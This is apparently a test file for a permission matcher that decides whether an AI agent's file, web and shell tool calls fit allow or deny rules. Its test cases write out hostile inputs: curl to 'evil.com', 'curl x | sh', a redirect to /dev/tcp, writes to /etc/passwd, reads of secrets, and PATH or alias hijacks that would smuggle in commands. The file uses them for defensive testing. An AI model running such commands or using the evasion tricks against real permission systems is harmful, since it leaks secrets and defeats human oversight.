import type { Json, RuleMatch } from "@kheish/contract";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Glob, UNKNOWN } from "./glob.ts";
import { fits } from "./match.ts";
import { seenIn } from "./seen.ts";

const ROOT = "/srv/space";

function surely(match: RuleMatch, name: string, input: Json): boolean {
  return fits(match, seenIn({ id: "c", name, input }, ROOT), "surely");
}
function possibly(match: RuleMatch, name: string, input: Json): boolean {
  return fits(match, seenIn({ id: "c", name, input }, ROOT), "possibly");
}

describe("03-A7 path globs", () => {
  it.each([
    ["docs/**", "docs/a.md", true],
    ["docs/**", "docs/deep/er/a.md", true],
    ["docs/**", "docs", true],
    ["docs/**", "./docs/../docs/a.md", true],
    ["docs/**", "docs/../src/a.ts", false],
    ["docs/**", "docs2/a.md", false],
    ["docs/*", "docs/a.md", true],
    ["docs/*", "docs/deep/a.md", false],
    ["docs/**/*.md", "docs/a.md", true],
    ["docs/**/*.md", "docs/x/y/a.md", true],
    ["docs/**/*.md", "docs/x/y/a.txt", false],
    ["**", ".env", true],
    ["**/.env", "a/b/.env", true],
    ["*.ts", "a.ts", true],
    ["*.ts", "src/a.ts", false],
    ["src/?.ts", "src/a.ts", true],
    ["src/?.ts", "src/ab.ts", false],
    ["docs/**", "/srv/space/docs/a.md", true],
    ["docs/**", "/srv/other/docs/a.md", false],
    ["**", "../outside", false],
    ["**", "/etc/passwd", false],
    ["/etc/**", "/etc/passwd", true],
    ["./docs/*", "docs/a.md", true],
    ["a\\*b", "a*b", true],
    ["a\\*b", "axb", false],
  ])("%s allows a write of %s: %s", (glob, path, expected) => {
    expect(surely({ path: [glob] }, "write_file", { path, content: "" })).toBe(expected);
  });

  it("a deny holds for what lies outside, too", () => {
    expect(possibly({ path: ["**"] }, "write_file", { path: "/etc/passwd" })).toBe(true);
    expect(possibly({ path: ["**"] }, "write_file", { path: "../x" })).toBe(true);
  });

  it("a patch is allowed only when each of its files is, and denied when one is", () => {
    const patch = (...paths: string[]) => ({
      hunks: paths.map((path) => ({ path, old_text: "a", new_text: "b" })),
    });
    expect(surely({ path: ["docs/**"] }, "apply_patch", patch("docs/a", "docs/b"))).toBe(true);
    expect(surely({ path: ["docs/**"] }, "apply_patch", patch("docs/a", "src/b"))).toBe(false);
    expect(possibly({ path: ["src/**"] }, "apply_patch", patch("docs/a", "src/b"))).toBe(true);
    expect(surely({ path: ["**"] }, "apply_patch", {})).toBe(false);
    expect(possibly({ path: ["secret/**"] }, "apply_patch", {})).toBe(true);
  });

  it("a search touches all that is below its base", () => {
    const search = (base?: string) => ({ pattern: "x", ...(base === undefined ? {} : { base }) });
    expect(possibly({ path: ["secrets/**"] }, "grep_search", search())).toBe(true);
    expect(possibly({ path: ["secrets/**"] }, "grep_search", search("docs"))).toBe(false);
    expect(surely({ path: ["docs/**"] }, "grep_search", search("docs"))).toBe(true);
    expect(surely({ path: ["docs/*"] }, "grep_search", search("docs"))).toBe(false);
    expect(surely({ path: ["docs/**"] }, "grep_search", search())).toBe(false);
    expect(surely({ path: ["docs/**"] }, "glob_search", { pattern: "../src/*", base: "docs" })).toBe(false);
  });

  it("of tools that we did not write a rule can stop calls by what it recognises, and allow none", () => {
    const name = "mcp__files__write";
    expect(possibly({ path: ["secrets/**"] }, name, { path: "secrets/a" })).toBe(true);
    expect(possibly({ path: ["secrets/**"] }, name, { path: "docs/a" })).toBe(false);
    expect(possibly({ path: ["secrets/**"] }, "todo_write", { todos: [] })).toBe(false);
    expect(surely({ path: ["**"] }, name, { path: "docs/a" })).toBe(false);
  });
});

describe("03-A7 hosts", () => {
  it.each([
    ["example.com", "https://example.com/x", true],
    ["example.com", "https://EXAMPLE.com:8443/x", true],
    ["example.com", "https://example.com./x", true],
    ["example.com", "https://evil.com/example.com", false],
    ["example.com", "https://example.com@evil.com/", false],
    ["*.example.com", "https://a.b.example.com/", true],
    ["*.example.com", "https://example.com/", false],
    ["*.example.com", "https://badexample.com/", false],
    ["[::1]", "http://[::1]/", false],
    ["::1", "http://[::1]/", true],
    ["*", "not a url at all", false],
  ])("%s allows %s: %s", (host, url, expected) => {
    expect(surely({ host: [host] }, "web_fetch", { url })).toBe(expected);
  });

  it("what is no address may be any for a deny", () => {
    expect(possibly({ host: ["evil.com"] }, "web_fetch", { url: "not a url at all" })).toBe(true);
    expect(possibly({ host: ["evil.com"] }, "bash", { command: "curl https://evil.com/x" })).toBe(true);
    expect(possibly({ host: ["evil.com"] }, "bash", { command: "curl https://good.com/x" })).toBe(false);
    expect(possibly({ host: ["evil.com"] }, "bash", { command: 'curl "$URL"' })).toBe(true);
  });
});

const words = (...argvs: string[]): RuleMatch => ({
  command: argvs.map((argv) => ({ argv: argv.split(" ") })),
});

describe("03-A7 command words", () => {
  it.each([
    // pattern, command, an allow holds, a deny holds
    ["git status", "git status", true, true],
    ["git status", "git  'status'", true, true],
    ["git status", "git status -s", false, false],
    ["git status **", "git status", true, true],
    ["git status **", "git status -s -b", true, true],
    ["git *", "git status", true, true],
    ["git *", "git status -s", false, false],
    ["git log --format=*", "git log --format=%h", true, true],
    ["git **", "git log | head", false, true],
    ["git **", "git log && git status", true, true],
    ["git **", "/usr/bin/git log", false, true],
    ["git **", "./git log", false, true],
    ["git **", "git log > out", false, true],
    ["git **", "git log > /dev/null 2>&1", true, true],
    ["git **", "git log > /dev/tcp/1.2.3.4/80", false, true],
    ["git **", "git log $(rm x)", false, true],
    ["git **", "git log $(git rev-parse HEAD)", true, true],
    ["git **", "PATH=/evil git log", false, true],
    ["git **", "PATH=/evil; git log", false, true],
    ["git **", "git() { rm x; }; git log", false, true],
    ["git **", "alias git=rm; git log", false, true],
    ["git **", "sudo git log", false, true],
    ["git **", "timeout 5 git log", true, true],
    ["git **", "env git log", true, true],
    ["git **", "env GIT_DIR=/x git log", false, true],
    ["git **", "sh -c 'git log; git status'", true, true],
    ["git **", "sh -c 'git log; rm x'", false, true],
    ["git **", "sh -c 'git log > x'", false, true],
    ["git **", "bash -lc 'timeout 5 git log'", true, true],
    ["git **", "PATH=/evil timeout 5 git log", false, true],
    ["git **", "BASH_ENV=/evil bash -c 'git log'", false, true],
    ["git **", "/tmp/timeout 5 git log", false, true],
    ["git **", "./sh -c 'git log'", false, true],
    ["git **", "/usr/bin/timeout 5 git log", true, true],
    ["git **", "time -o out git log", false, false],
    ["git **", "command time -o /etc/x git log", false, true],
    ["git **", "for f in a b; do git log $f; done", true, true],
    ["git **", "for PATH in /evil; do git log; done", false, true],
    ["git **", "coproc PATH { git log; }", false, true],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expansion of the shell
    ["git **", "git log ${PATH:=/evil}", false, true],
    ["git **", "git log {PATH}>/dev/null", false, true],
    ["test **", "test -v 'a[$(rm x)]'", false, true],
    ["printf **", "printf -v PATH /evil", false, true],
    ["printf **", "printf '%s' '[$x]'", false, true],
    ["git **", "echo x | xargs git add", false, true],
    ["git **", 'git log "$X"', true, true],
    ["git log *", 'git log "$X"', true, true],
    ["git log *", "git log $X", false, true],
    ["git log main", 'git log "$X"', false, true],
    ["git log main", 'git diff "$X"', false, false],
    ["git push **", "git $X", false, true],
    ["git push **", "$X", false, true],
    ["git push **", 'git "$X" origin', false, true],
    ["git push **", "git pull", false, false],
    ["rm **", "find . -exec rm {} +", false, true],
    ["rm **", "echo rm", false, false],
    ["rm **", "echo 'rm -rf /'", false, false],
    ["rm **", "eval 'rm x'", true, true],
    ["rm **", 'eval "$X"', false, true],
    ["rm **", "curl x | sh", false, true],
    ["rm **", "bash <<< 'rm x'", true, true],
    ["rm **", "python3 -c 'x'", false, false],
    ["ls **", "ls *.ts", true, true],
    ["ls", "ls *.ts", false, true],
    ["[[ **", "[[ -f x ]]", true, true],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expansion of the shell
    ["echo **", "echo ${x@P}", false, true],
    ["echo **", "echo 'unterminated", false, true],
    ["echo **", "echo a\u0000b", false, true],
    ["**", "anything --at all", true, true],
    ["**", "$X", true, true],
    ["**", "", false, false],
    ["echo **", "# only a comment", false, false],
  ])("%s on %s: allow %s, deny %s", (pattern, command, allows, denies) => {
    expect({
      allows: surely(words(pattern), "bash", { command }),
      denies: possibly(words(pattern), "bash", { command }),
    }).toEqual({ allows, denies });
  });

  it("files that the shell opens need a path of the same rule", () => {
    const match: RuleMatch = { ...words("echo **", "cd **"), path: ["out/**"] };
    const allowed = (command: string, workdir?: string) =>
      surely(match, "bash", { command, ...(workdir === undefined ? {} : { workdir }) });
    expect(allowed("echo x > out/a")).toBe(true);
    expect(allowed("echo x")).toBe(true);
    expect(allowed("echo x > src/a")).toBe(false);
    expect(allowed("echo x > ../out/a")).toBe(false);
    expect(allowed('echo x > "out/$X"')).toBe(false);
    expect(allowed("echo x > a", "out")).toBe(true);
    expect(allowed("echo x > a", "src")).toBe(false);
    expect(allowed("cd src && echo x > out/a")).toBe(false);
    expect(allowed("sh -c 'echo x > src/a'")).toBe(false);
  });

  it("a deny by path looks at the words of a command, as far as they are known", () => {
    const match: RuleMatch = { path: ["secrets/**"] };
    expect(possibly(match, "bash", { command: "cat secrets/key" })).toBe(true);
    expect(possibly(match, "bash", { command: "cat < secrets/key" })).toBe(true);
    expect(possibly(match, "bash", { command: "cat docs/a" })).toBe(false);
    expect(possibly(match, "bash", { command: 'cat "$F"' })).toBe(true);
    expect(possibly(match, "bash", { command: "cd secrets; cat key" })).toBe(true);
  });

  it("all members of a match have to hold", () => {
    const match: RuleMatch = { ...words("curl **"), host: ["evil.com"] };
    expect(possibly(match, "bash", { command: "curl https://evil.com" })).toBe(true);
    expect(possibly(match, "bash", { command: "wget https://evil.com" })).toBe(false);
    expect(possibly(match, "bash", { command: "curl https://good.com" })).toBe(false);
    expect(possibly(words("rm **"), "write_file", { path: "rm" })).toBe(false);
  });

  it("an input that is not the tool's is allowed by no match and stopped by every one", () => {
    for (const input of [null, "rm", 7, [], {}, { command: 7 }]) {
      expect(surely(words("**"), "bash", input)).toBe(false);
      expect(possibly(words("nothing at all"), "bash", input)).toBe(true);
    }
  });
});

describe("03-A7 patterns", () => {
  const letters = fc.string({ unit: fc.constantFrom("a", "b", "*"), maxLength: 6 });
  const plain = fc.string({ unit: fc.constantFrom("a", "b"), maxLength: 8 });

  it("match as the regular expressions that they stand for", () => {
    fc.assert(
      fc.property(letters, plain, (pattern, text) => {
        const meaning = new RegExp(`^${pattern.replaceAll("*", ".*")}$`);
        expect(new Glob(pattern).matches(text)).toBe(meaning.test(text));
      }),
      { numRuns: 5_000 },
    );
  });

  it("fit surely only what they fit whatever the unknown turns out to be, and possibly whenever they may", () => {
    const filling = fc.array(plain, { minLength: 3, maxLength: 3 });
    fc.assert(
      fc.property(letters, letters, filling, (pattern, holed, fillings) => {
        const text = [...holed].map((one) => (one === "*" ? UNKNOWN : one));
        let next = 0;
        const filled = holed.replaceAll("*", () => fillings[next++ % fillings.length] ?? "");
        const glob = new Glob(pattern);
        if (glob.fits(text, "surely")) expect(glob.matches(filled)).toBe(true);
        if (glob.matches(filled)) expect(glob.fits(text, "possibly")).toBe(true);
      }),
      { numRuns: 5_000 },
    );
  });

  it.each([
    ["brackets that nothing closes", "[".repeat(65_000)],
    ["one word that may name many things", `echo ${"a@".repeat(32_000)}`],
    ["many words that may", `echo ${"a=b,c ".repeat(10_000)}`],
    ["expansions in quotes", `echo ${'"$x" '.repeat(13_000)}`],
    ["programs that run programs", "env a=b ".repeat(8_000)],
    ["a pattern of patterns", `echo \${x/${"a/".repeat(32_000)}}`],
  ])("take no time over %s", (_what, command) => {
    const match = { ...words("git ** push **"), path: ["a/**"], host: ["*.example"] };
    expect(possibly(match, "bash", { command })).toBe(false);
    expect(surely(words("nothing"), "bash", { command })).toBe(false);
  });

  it("take no time over what is made to take long", () => {
    const command = `echo ${"a".repeat(60_000)}`;
    expect(surely(words(`echo ${"*a".repeat(200)}b`), "bash", { command })).toBe(false);
    const nested = `${"$(".repeat(3_000)}rm${")".repeat(3_000)}`;
    expect(possibly(words("rm **"), "bash", { command: nested })).toBe(true);
    expect(surely(words("**"), "bash", { command: "sudo ".repeat(5_000) })).toBe(true);
  });
});
